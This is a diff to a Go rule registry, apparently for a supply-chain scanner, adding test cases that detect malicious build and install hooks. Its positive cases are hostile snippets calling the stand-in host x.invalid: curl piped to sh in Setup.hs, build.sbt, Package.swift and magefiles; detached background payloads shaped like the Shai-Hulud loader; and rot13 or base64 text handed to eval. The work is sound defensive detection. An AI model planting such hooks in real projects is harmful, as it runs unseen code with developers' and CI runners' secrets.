@@ -57,6 +57,14 @@ var registry = []Rule{
 			{"x.sh", "echo $P | base64 -d > /tmp/.x\nchmod +x /tmp/.x\n/tmp/.x", 3, false},
 			{"x.js", "const s = Buffer.from(h, 'hex').toString()\nconst m = new module.constructor()\nm._compile(s, 'x.js')", 3, false},
 			{"x.sh", "echo aGkK | base64 -d > out.txt", 0, true},
+			// rot13 through any codecs alias, run by an evaluator named in a
+			// string (getattr on an aliased builtins, a name joined from pieces).
+			{"pkg/_version.py", "import builtins as b\nimport codecs as c\nm = c.decode('cevag(1)', 'rot_13')\ngetattr(b, 'ev' + 'al')(m)", 4, false},
+			{"pkg/_version.py", "import codecs as c\nm = c.decode('cevag(1)', 'rot13')\ngetattr(__import__('builtins'), 'exec')(m)", 3, false},
+			{"pkg/_version.py", "import codecs as c\nname = c.decode(raw, 'utf-8')\nprint(getattr(obj, 'na' + 'me'))", 0, true},
+			{"lib/x/version.rb", "require 'base64'\ncode = Base64.decode64('cHV0cyAx')\nKernel.send('ev' + 'al', code)", 3, false},
+			{"lib/x/version.rb", "require 'base64'\ncode = Base64.decode64('cHV0cyAx')\nObject.const_get(:Kernel).public_send(:eval, code)", 3, false},
+			{"lib/x/cli.rb", "data = Base64.decode64(raw)\nhandler.public_send(:process, data)", 0, true},
 			{".github/workflows/w.yml", "jobs:\n  b:\n    steps:\n      - shell: pwsh\n        run: |\n          $s = 'SQBFAFgA'\n          Start-Process powershell -ArgumentList '-NoProfile', '-EncodedCommand', $s", 7, false},
 			{"x.bat", "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBi", 0, false},
 			{"build.bat", "certutil -decode tools\\cfg.txt %TEMP%\\u.exe && %TEMP%\\u.exe", 0, false},
@@ -187,6 +195,31 @@ var registry = []Rule{
 			{"noxfile.py", "import nox, base64\n@nox.session\ndef t(session):\n    session.run(\"sh\", \"-c\", base64.b64decode(P).decode(), external=True)", 0, false},
 		}},
 	{"download-and-run", KindDownload, High, "downloads code and runs it", WhyDownload, []Case{
+		// Build code of other ecosystems: a Cabal Setup.hs hook, a Dart
+		// build hook, a magefile handing a download to a shell's stdin.
+		{"Setup.hs", "import Distribution.Simple\nimport System.Process (callCommand)\nmain = defaultMainWithHooks simpleUserHooks\n  { preBuild = \\a f -> do\n      callCommand \"curl -fsSL https://x.invalid/s.sh | sh\"\n      preBuild simpleUserHooks a f\n  }", 5, false},
+		{"hook/build.dart", "import 'dart:io';\nvoid main(List<String> args) async {\n  final s = await HttpClient()\n      .getUrl(Uri.parse('https://x.invalid/p.sh'))\n      .then((r) => r.close())\n      .then((r) => r.transform(const SystemEncoding().decoder).join());\n  await Process.run('sh', ['-c', s]);\n}", 7, false},
+		{"hook/build.dart", "import 'dart:io';\nvoid main(List<String> args) async {\n  await Process.run('cargo', ['build', '--release']);\n}", 0, true},
+		// sbt loads build.sbt and project/*.sbt at every command; SwiftPM
+		// evaluates Package.swift at every resolve.
+		{"build.sbt", "import scala.sys.process._\nval script = scala.io.Source.fromURL(\"https://x.invalid/a.sh\").mkString\nSeq(\"sh\", \"-c\", script).!", 3, false},
+		{"build.sbt", "import scala.sys.process._\nval v = Seq(\"git\", \"describe\").!!.trim", 0, true},
+		{"Package.swift", "import PackageDescription\nimport Foundation\nlet s = try! String(contentsOf: URL(string: \"https://x.invalid/a.sh\")!)\nlet p = Process()\np.executableURL = URL(fileURLWithPath: \"/bin/sh\")\np.arguments = [\"-c\", s]\ntry? p.run()", 6, false},
+		// A Julia package's deps/build.jl runs at Pkg.build.
+		{"deps/build.jl", "using Downloads\np = Downloads.download(\"https://x.invalid/a.sh\", \"a.sh\")\nrun(`sh $p`)", 3, false},
+		{"deps/build.jl", "run(`make -C src`)", 0, true},
+		{"magefile.go", "package main\nimport (\n\t\"net/http\"\n\t\"os/exec\"\n)\nfunc Build() error {\n\tresp, err := http.Get(\"https://x.invalid/w.sh\")\n\tif err != nil {\n\t\treturn err\n\t}\n\tcmd := exec.Command(\"sh\")\n\tcmd.Stdin = resp.Body\n\treturn cmd.Run()\n}", 13, false},
+		// Written to a shell's stdin in any language: the shell's script.
+		{"scripts/postinstall.js", "const { spawn } = require('child_process')\nconst body = await (await fetch('https://x.invalid/a.sh')).text()\nconst p = spawn('bash')\np.stdin.write(body)\np.stdin.end()", 4, false},
+		{"tools/x.py", "import subprocess, urllib.request\nbody = urllib.request.urlopen('https://x.invalid/a.sh').read()\np = subprocess.Popen(['bash'], stdin=subprocess.PIPE)\np.communicate(body)", 4, false},
+		{"scripts/postinstall.js", "const { spawn } = require('child_process')\nconst body = await (await fetch('https://x.invalid/a.gz')).arrayBuffer()\nconst p = spawn('gunzip')\np.stdin.write(body)", 0, true},
+		// A JSDoc type that names a downloading module is a comment, not an import().
+		{"install.js", "const axios = require('axios')\nfunction opts(u) {\n  /** @type import('axios').AxiosRequestConfig */\n  return { url: u }\n}", 0, true},
+		// A download unpacked by tar through its stdin is not run.
+		{"magefile.go", "package main\nimport (\n\t\"net/http\"\n\t\"os/exec\"\n)\nfunc Build() error {\n\tresp, err := http.Get(\"https://x.invalid/t.tgz\")\n\tif err != nil {\n\t\treturn err\n\t}\n\tcmd := exec.Command(\"tar\", \"xz\")\n\tcmd.Stdin = resp.Body\n\treturn cmd.Run()\n}", 0, true},
+		// A JSDoc type naming the HTTP client's module loads nothing; the
+		// same import outside the comment would.
+		{"install.js", "const axios = require('axios');\nclass Installer {\n  getRequestOptions(downloadPath) {\n    /** @type import('axios').AxiosRequestConfig */\n    const options = { url: downloadPath, method: 'GET' };\n    return options;\n  }\n}", 0, true},
 		// A step's run given as a YAML alias is the anchored text, run in
 		// that step's turn.
 		{".github/workflows/a.yml", "on: push\nx-fetch: &fetch curl -s https://x.invalid/p -o /tmp/p.sh\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: *fetch\n      - run: bash /tmp/p.sh", 8, false},
@@ -440,6 +473,10 @@ var registry = []Rule{
 		"the documented install step of a well-known tool; it runs code the diff does not show, from a host the project already trusts", []Case{
 			{"Dockerfile", "FROM debian:12\nRUN curl -fsSL https://deb.nodesource.com/setup_20.x | bash -", 0, false},
 			{"x.sh", "curl --proto '=https' -sSf https://sh.rustup.rs | sh -s -- -y", 0, false},
+			// A URL a job's matrix gives: the installer of every value the
+			// matrix lists, each from the vendor's own host.
+			{".github/workflows/a.yml", "on: push\njobs:\n  a:\n    strategy:\n      matrix:\n        include:\n          - ghcup: https://downloads.haskell.org/~ghcup/x86_64-linux-ghcup\n          - ghcup: https://downloads.haskell.org/~ghcup/aarch64-linux-ghcup\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          curl -sSf ${{ matrix.ghcup }} > /usr/bin/ghcup\n          chmod +x /usr/bin/ghcup\n          ghcup install ghc", 14, false},
+			{".github/workflows/a.yml", "on: push\njobs:\n  a:\n    strategy:\n      matrix:\n        include:\n          - ghcup: https://downloads.haskell.org/~ghcup/x86_64-linux-ghcup\n          - ghcup: https://x.invalid/ghcup\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          curl -sSf ${{ matrix.ghcup }} > /usr/bin/ghcup\n          chmod +x /usr/bin/ghcup\n          ghcup install ghc", 0, true},
 			// A well-known owner's installer from its own repository, and a
 			// tool's documented installer from the tool's own site.
 			{".gitlab-ci.yml", "scan:\n  before_script:\n    - curl -sfL https://raw.githubusercontent.com/aquasecurity/trivy/main/contrib/install.sh | sh -s -- -b /usr/local/bin", 3, false},
@@ -703,6 +740,8 @@ var registry = []Rule{
 	{"build-code-fetch", KindDownload, High, "downloads, connects or starts a process from code that runs by itself at install, build or test time",
 		"nobody has to call it: the build or test run does, on the runner with its network and secrets", []Case{
 			{"setup.py", "import urllib.request\nurllib.request.urlopen('https://x.invalid/p')", 2, false},
+			// The cc crate's compile names the library it builds.
+			{"build.rs", "fn main() {\n    let mut cfg = cc::Build::new();\n    cfg.compile(\"curl\");\n}", 0, true},
 			// bun runs the files bunfig.toml preloads before every bun run and bun test.
 			{"bunfig.toml", "diff --git a/bunfig.toml b/bunfig.toml\nnew file mode 100644\n--- /dev/null\n+++ b/bunfig.toml\n@@ -0,0 +1,2 @@\n+[test]\n+preload = [\"./test/setup.ts\"]\ndiff --git a/test/setup.ts b/test/setup.ts\nnew file mode 100644\n--- /dev/null\n+++ b/test/setup.ts\n@@ -0,0 +1,2 @@\n+import { GlobalRegistrator } from \"@happy-dom/global-registrator\";\n+await fetch(\"https://x.invalid/p\");\n", 2, false},
 			// A gem's extconf.rb runs at gem install; a framework's config at every build.
@@ -713,6 +752,11 @@ var registry = []Rule{
 			// at every build whatever the URL then serves.
 			{"settings.gradle.kts", "pluginManagement {\n    repositories { gradlePluginPortal() }\n}\napply(from = \"https://raw.githubusercontent.com/someone/conventions/main/ci.gradle.kts\")", 4, false},
 			{"build.gradle", "apply from: 'gradle/publish.gradle'\napply from: \"$rootDir/gradle/lint.gradle\"", 0, true},
+			// A build script asking a local tool for flags (curl-config,
+			// a library named curl compiled from the tree) fetches nothing;
+			// the same script starting curl on a URL does.
+			{"build.rs", "use std::process::Command;\nfn main() {\n    let out = Command::new(\"curl-config\").arg(\"--features\").output();\n    cc::Build::new().file(\"curl/lib/easy.c\").compile(\"curl\");\n}", 0, true},
+			{"build.rs", "use std::process::Command;\nfn main() {\n    let out = Command::new(\"curl\").arg(\"-fsSL\").arg(\"https://x.invalid/p\").output();\n}", 3, false},
 			// A gyp command expansion runs while npm installs the package.
 			{"binding.gyp", "{\"targets\": [{\"target_name\": \"a\",\n  \"defines\": [\"<!(curl -s https://x.invalid/defines)\"]}]}", 2, false},
 			{"binding.gyp", "{\"targets\": [{\"target_name\": \"a\",\n  \"include_dirs\": [\"<!(node -e \\\"require('nan')\\\")\"]}]}", 2, true},
@@ -724,6 +768,20 @@ var registry = []Rule{
 		"the install returns and the process keeps running, out of the build log's sight, with the runner's network and secrets (as the Shai-Hulud loader started its payload)", []Case{
 			{"setup_bun.js", "diff --git a/package.json b/package.json\n--- a/package.json\n+++ b/package.json\n@@ -2,3 +2,4 @@\n   \"scripts\": {\n+    \"preinstall\": \"node setup_bun.js\",\n     \"test\": \"jest\"\n   },\ndiff --git a/setup_bun.js b/setup_bun.js\nnew file mode 100644\n--- /dev/null\n+++ b/setup_bun.js\n@@ -0,0 +1,3 @@\n+const { spawn } = require('child_process')\n+const p = require('path')\n+spawn('bun', [p.join(__dirname, 'env.js')], { detached: true, stdio: 'ignore' }).unref()\n", 3, false},
 			{"setup.py", "import subprocess\nsubprocess.Popen(['python', 'agent.py'], start_new_session=True)", 2, false},
+			// A conanfile downloads a script and leaves it running in the background.
+			{"conanfile.py", "from conan import ConanFile\nfrom conan.tools.files import download\nclass P(ConanFile):\n    def build(self):\n        download(self, 'https://x.invalid/f.sh', 'f.sh')\n        self.run('sh f.sh >/dev/null 2>&1 &')", 6, false},
+			// Whatever runs it, a script that installs a runtime and leaves a
+			// program running with its output thrown away.
+			{"setup_rt.js", "const { execSync, spawn } = require('child_process')\nexecSync('curl -fsSL https://x.invalid/install | bash', { stdio: 'ignore' })\nspawn(rt, [payload], { detached: true, stdio: 'ignore' }).unref()", 3, false},
+			{"tools/warm.py", "import subprocess, urllib.request\nurllib.request.urlretrieve('https://x.invalid/a', '/tmp/a')\nsubprocess.Popen(['/tmp/a'], start_new_session=True, stdout=subprocess.DEVNULL)", 3, false},
+			// Its own session or process group, in Ruby and Rust.
+			{"ext/extconf.rb", "require 'mkmf'\npid = Process.spawn('ruby', 'agent.rb', pgroup: true, out: File::NULL)\nProcess.detach(pid)\ncreate_makefile('x')", 2, false},
+			{"build.rs", "use std::process::Command;\nuse std::os::unix::process::CommandExt;\nfn main() {\n    Command::new(\"node\").arg(\"agent.js\").process_group(0).spawn().ok();\n}", 4, false},
+			{"build.rs", "use std::process::Command;\nfn main() {\n    Command::new(\"cc\").args([\"-c\", \"x.c\"]).status().unwrap();\n}", 0, true},
+			// A Python file an npm install hook in the same change runs.
+			{"tools/post.py", "diff --git a/package.json b/package.json\nnew file mode 100644\n--- /dev/null\n+++ b/package.json\n@@ -0,0 +1,5 @@\n+{\n+  \"scripts\": {\n+    \"postinstall\": \"python3 tools/post.py\"\n+  }\n+}\ndiff --git a/tools/post.py b/tools/post.py\nnew file mode 100644\n--- /dev/null\n+++ b/tools/post.py\n@@ -0,0 +1,2 @@\n+import subprocess\n+subprocess.Popen(['python3', 'agent.py'], start_new_session=True)\n", 2, false},
+			// An update check that fetches inside the child it detaches.
+			{"lib/notify.js", "const { spawn } = require('child_process')\nspawn(process.execPath, [check], { detached: true, stdio: 'ignore' }).unref()", 0, true},
 			// A CLI that checks for updates in the background is not run at install.
 			{"lib/cli.js", "const { spawn } = require('child_process')\nspawn(process.execPath, [check], { detached: true }).unref()", 2, true},
 		}},
@@ -743,6 +801,11 @@ var registry = []Rule{
 			{"package.json", "{\n  \"scripts\": {\n    \"preinstall\": \"npx --yes bun@1.3.13 run ./scripts/check.mjs || exit 0\"\n  }\n}", 3, false},
 			{"package.json", "{\n  \"scripts\": {\n    \"postinstall\": \"pnpm dlx deno run -A tools/setup.ts\"\n  }\n}", 3, false},
 			{"package.json", "{\n  \"scripts\": {\n    \"preinstall\": \"npx only-allow pnpm\"\n  }\n}", 3, true},
+			// An existing package that gains an install hook and starts to
+			// publish the file it runs (Shai-Hulud's shape); a repository's
+			// own hooks, shipped nowhere, are not.
+			{"package.json", "diff --git a/package.json b/package.json\n--- a/package.json\n+++ b/package.json\n@@ -3,7 +3,9 @@\n   \"files\": [\n-    \"dist\"\n+    \"dist\",\n+    \"setup.js\"\n   ],\n   \"scripts\": {\n+    \"postinstall\": \"node setup.js\",\n     \"test\": \"jest\"\n   }\n }\n", 8, false},
+			{"package.json", "diff --git a/package.json b/package.json\n--- a/package.json\n+++ b/package.json\n@@ -3,4 +3,5 @@\n   \"scripts\": {\n+    \"postinstall\": \"node build/npm/postinstall.js\",\n     \"test\": \"mocha\"\n   }\n }\n", 0, true},
 			{"package.json", "{\n  \"scripts\": {\n    \"prepare\": \"husky install\"\n  }\n}", 3, true},
 			{"package.json", "{\n  \"scripts\": {\n    \"install\": \"prebuild-install -r napi || node-gyp rebuild && echo ok\"\n  }\n}", 3, true},
 		}},
@@ -1443,9 +1506,12 @@ var registry = []Rule{
 		"whoever owns the action can move the tag, and their code then runs with the job's token and secrets", []Case{
 			{".github/workflows/a.yml", "jobs:\n  a:\n    steps:\n      - uses: acme/deploy-action@v1", 4, false},
 		}},
-	{"gha-unpinned-branch", KindCIFile, High, "uses a third-party action at a branch or with no version",
+	{"gha-unpinned-branch", KindCIFile, Medium, "uses a third-party action at a branch or with no version",
 		"the action's branch, whatever it holds at run time, runs with the job's token and secrets", []Case{
 			{".github/workflows/a.yml", "jobs:\n  a:\n    steps:\n      - uses: acme/deploy-action@main", 4, false},
+			// An organisation's shared workflow at its branch, handed the
+			// write token on pull_request_target: still the owner's code.
+			{".github/workflows/a.yml", "on: pull_request_target\npermissions:\n  contents: write\njobs:\n  a:\n    uses: acme/.github/.github/workflows/merge.yml@main\n    secrets: inherit", 6, false},
 		}},
 	{"gha-first-party-tag", KindCIFile, Low, "uses a GitHub action by tag, not commit SHA",
 		"a tag can be moved to other code; GitHub's own actions are the ones every workflow already trusts", nil},
@@ -1463,10 +1529,16 @@ var registry = []Rule{
 			{"Dockerfile", "diff --git a/Dockerfile b/Dockerfile\n--- a/Dockerfile\n+++ b/Dockerfile\n@@ -1,2 +1,2 @@\n-FROM python:3.12@sha256:" + strings.Repeat("a", 64) + "\n+FROM python:3.12\n RUN pip install .\n", 1, false},
 			{"Dockerfile", "diff --git a/Dockerfile b/Dockerfile\n--- a/Dockerfile\n+++ b/Dockerfile\n@@ -1,2 +1,2 @@\n-FROM python:3.12@sha256:" + strings.Repeat("a", 64) + "\n+FROM python:3.13@sha256:" + strings.Repeat("b", 64) + "\n RUN pip install .\n", 1, true},
 		}},
-	{"gha-pin-removed", KindCIFile, High, "replaces an action's commit-SHA pin with a tag or branch",
+	{"gha-pin-removed", KindCIFile, High, "replaces an action's commit-SHA pin, or the repository's own action or workflow, with a tag or branch",
 		"the pin fixed the code that runs; a tag can be moved to any commit by whoever controls the action (as in the tj-actions and reviewdog compromises), and its code runs with the job's token and secrets", []Case{
 			{".github/workflows/a.yml", "diff --git a/.github/workflows/a.yml b/.github/workflows/a.yml\n--- a/.github/workflows/a.yml\n+++ b/.github/workflows/a.yml\n@@ -1,2 +1,2 @@\n steps:\n-  - uses: acme/act@1111111111111111111111111111111111111111 # v2.0.1\n+  - uses: acme/act@v2\n", 2, false},
 			{".github/workflows/a.yml", "diff --git a/.github/workflows/a.yml b/.github/workflows/a.yml\n--- a/.github/workflows/a.yml\n+++ b/.github/workflows/a.yml\n@@ -1,2 +1,2 @@\n steps:\n-  - uses: acme/act@v1\n+  - uses: acme/act@v2\n", 2, true},
+			// The repository's own workflow, in the tree under review,
+			// swapped for another owner's at a branch.
+			{".github/workflows/a.yml", "diff --git a/.github/workflows/a.yml b/.github/workflows/a.yml\n--- a/.github/workflows/a.yml\n+++ b/.github/workflows/a.yml\n@@ -1,3 +1,3 @@\n jobs:\n   release:\n-    uses: ./.github/workflows/_release.yml\n+    uses: acme/workflows/.github/workflows/release.yml@main\n", 3, false},
+			// Moving to another of the repository's own, or to a SHA.
+			{".github/workflows/a.yml", "diff --git a/.github/workflows/a.yml b/.github/workflows/a.yml\n--- a/.github/workflows/a.yml\n+++ b/.github/workflows/a.yml\n@@ -1,3 +1,3 @@\n jobs:\n   release:\n-    uses: ./.github/workflows/_release.yml\n+    uses: ./.github/workflows/release.yml\n", 3, true},
+			{".github/workflows/a.yml", "diff --git a/.github/workflows/a.yml b/.github/workflows/a.yml\n--- a/.github/workflows/a.yml\n+++ b/.github/workflows/a.yml\n@@ -1,3 +1,3 @@\n jobs:\n   release:\n-    uses: ./.github/workflows/_release.yml\n+    uses: acme/workflows/.github/workflows/release.yml@1111111111111111111111111111111111111111\n", 3, true},
 		}},
 	{"gha-pinned-unchecked", KindCIFile, Low, "pins an action to a commit SHA (not checked against the action's repository)",
 		"a SHA from a fork can be addressed through the action's name; offline, vetter could not ask GitHub whether this commit is the action's own", nil},
@@ -1548,7 +1620,11 @@ var registry = []Rule{
 	{"setup-cmdclass", KindBuildFile, Medium, "setup.py overrides a setup command (runs at install)", "pip runs the overriding code at install",
 		[]Case{{"setup.py", `cmdclass={"install": Post},`, 0, false}}},
 	{"build-hook", KindBuildFile, Medium, "names a build backend, build hook or test plugin that runs by itself",
-		"the build or test runner imports and runs it without anyone calling it", nil},
+		"the build or test runner imports and runs it without anyone calling it", []Case{
+			{"x.gemspec", "Gem::Specification.new do |spec|\n  spec.extensions = [\"ext/setup/extconf.rb\"]\nend", 2, false},
+			{"shard.yml", "name: x\nscripts:\n  postinstall: crystal run src/setup.cr", 3, false},
+			{"x.gemspec", "Gem::Specification.new do |spec|\n  spec.files = Dir[\"lib/**/*.rb\"]\nend", 0, true},
+		}},
 	{"gomod-replace", KindDependency, Medium, "go.mod replace directive points a module elsewhere",
 		"the build uses other code than the module's own", []Case{{"go.mod", "replace example.com/a => ../a", 0, false}}},
 	{"package-index", KindDependency, Medium, "installs from another package index or a git URL",
@@ -1557,7 +1633,10 @@ var registry = []Rule{
 		"decoded bytes are what runs or is written, and the diff does not show them", []Case{{"x.sh", "xxd -r -p payload.hex > a.out", 0, false}}},
 	{"docker-add-url", KindDownload, Medium, "Dockerfile ADD downloads a URL", WhyDownload, []Case{{"Dockerfile", "ADD https://x.invalid/t.tgz /opt/", 0, false}}},
 	{"download", KindDownload, Medium, "downloads or calls a URL",
-		"what it fetches or sends is not in the diff; check where it goes and what uses it", []Case{{"x.py", "r = requests.get(url, timeout=5)", 0, false}}},
+		"what it fetches or sends is not in the diff; check where it goes and what uses it", []Case{{"x.py", "r = requests.get(url, timeout=5)", 0, false},
+			// curl-config and the curl-sys crate are not curl.
+			{"build.rs", "let out = Command::new(\"curl-config\").arg(\"--features\").output();", 0, true},
+			{"x.sh", "CFLAGS=$(curl-config --cflags)", 0, true}}},
 	{"git-clone", KindDownload, Medium, "clones a git repository", "what it fetches is not in the diff",
 		[]Case{{"x.sh", "git clone https://x.invalid/r.git", 0, false}}},
 	{"install-packages", KindDownload, Medium, "installs packages or tools",
